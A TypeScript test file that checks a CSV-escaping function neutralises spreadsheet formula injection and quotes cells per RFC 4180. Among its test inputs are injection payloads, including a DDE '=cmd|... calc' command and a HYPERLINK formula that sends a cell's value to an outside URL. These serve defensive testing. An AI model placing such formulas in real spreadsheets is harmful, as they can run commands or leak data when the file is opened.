import { describe, expect, it } from 'vitest';
import { csvCell, csvHead, csvLine } from './csv-text.ts';

describe('a cell that a spreadsheet would run', () => {
  it.each([
    ['=1+1', '"\'=1+1"'],
    ['+1', '"\'+1"'],
    ['-2+3', '"\'-2+3"'],
    ['@SUM(A1)', '"\'@SUM(A1)"'],
    ["=cmd|' /c calc'!A0", "\"'=cmd|' /c calc'!A0\""],
    ['=HYPERLINK("http://example.com?x="&A1,"ok")', '"\'=HYPERLINK(""http://example.com?x=""&A1,""ok"")"'],
    ['\t=1', '"\'\t\'=1"'],
    ['\r=1', '"\'\r\'=1"'],
    [' =1', '" \'=1"'],
    ['"=1', '"""\'=1"'],
    ["'=1", '"\'\'=1"'],
    ['＝1+1', '"\'＝1+1"'],
    ['＋1', '"\'＋1"'],
    ['－1', '"\'－1"'],
    ['＠x', '"\'＠x"'],
    ['-', '"\'-"'],
  ])('%j gets an apostrophe in front', (text, cell) => {
    expect(csvCell(text)).toBe(cell);
  });

  it.each([
    ['x;=1+1', '"x;\'=1+1"'],
    ['x; "=1+1";y', '"x; ""\'=1+1"";y"'],
    ['x\t@y', '"x\t\'@y"'],
    ['x|-1', '"x|\'-1"'],
    ['x\n=1', '"x\n\'=1"'],
    ['x\r\n+1', '"x\r\n\'+1"'],
  ])('%j gets one where a program with other separators would begin a cell', (text, cell) => {
    expect(csvCell(text)).toBe(cell);
  });
});

describe('a harmless cell', () => {
  it.each([
    ['Failed password for root', 'Failed password for root'],
    ['192.0.2.7', '192.0.2.7'],
    ['2026-11-21T12:00:00.000Z', '2026-11-21T12:00:00.000Z'],
    ['', ''],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\nlines', '"two\nlines"'],
    ['{"n":[1,-5],"a":"b"}', '"{""n"":[1,-5],""a"":""b""}"'],
    ['naïve 日本語 😀', 'naïve 日本語 😀'],
    [' padded ', '" padded "'],
  ])('%j keeps its text', (text, cell) => {
    expect(csvCell(text)).toBe(cell);
  });
});

it('whatever the text, it comes back in one cell of a reader that knows RFC 4180', () => {
  const cells = ['a,b', 'c"d', 'e\r\nf', '', "g'", '=h;=i'];
  const [row] = readCsv(csvLine(cells));
  expect(row).toEqual(['a,b', 'c"d', 'e\r\nf', '', "g'", "'=h;'=i"]);
});

it('the file begins with the mark that Excel needs, once', () => {
  expect(Buffer.from(csvHead(['time', 'user']))).toEqual(
    Buffer.from([0xef, 0xbb, 0xbf, ...Buffer.from('time,user\r\n')]),
  );
});

/** The grammar of RFC 4180, to the letter. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  for (const [, quoted, plain, end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g)) {
    row.push(quoted?.replaceAll('""', '"') ?? plain ?? '');
    if (end === ',') continue;
    rows.push(row);
    row = [];
  }
  return rows;
}
